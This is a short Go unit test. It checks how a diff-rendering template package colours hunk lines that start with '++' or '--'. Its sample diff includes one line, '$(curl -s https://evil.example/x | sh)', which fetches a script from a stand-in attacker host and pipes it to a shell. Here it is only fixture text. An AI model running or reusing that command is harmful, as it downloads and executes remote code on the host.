package templates

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestUnifiedDiffColoursHunkLinesByTheirFirstByte: in a hunk, a line whose
// text starts with "++" or "--" is coloured added or removed, not as a
// "+++"/"---" file header; the headers before the hunk stay uncoloured.
func TestUnifiedDiffColoursHunkLinesByTheirFirstByte(t *testing.T) {
	t.Parallel()
	diff := "diff --git a/deploy.sh b/deploy.sh\n--- a/deploy.sh\n+++ b/deploy.sh\n@@ -1,2 +1,2 @@\n echo hi\n" +
		"--- old\n+++ $(curl -s https://evil.example/x | sh)\n"
	var classes []string
	for _, l := range UnifiedDiff(diff) {
		classes = append(classes, DiffClass(l.Op))
	}
	assert.Equal(t, []string{"diff-same", "diff-same", "diff-same", "diff-same", "diff-same", "diff-del", "diff-add"}, classes)
	assert.Equal(t, "+++ $(curl -s https://evil.example/x | sh)", UnifiedDiff(diff)[6].Text)
}
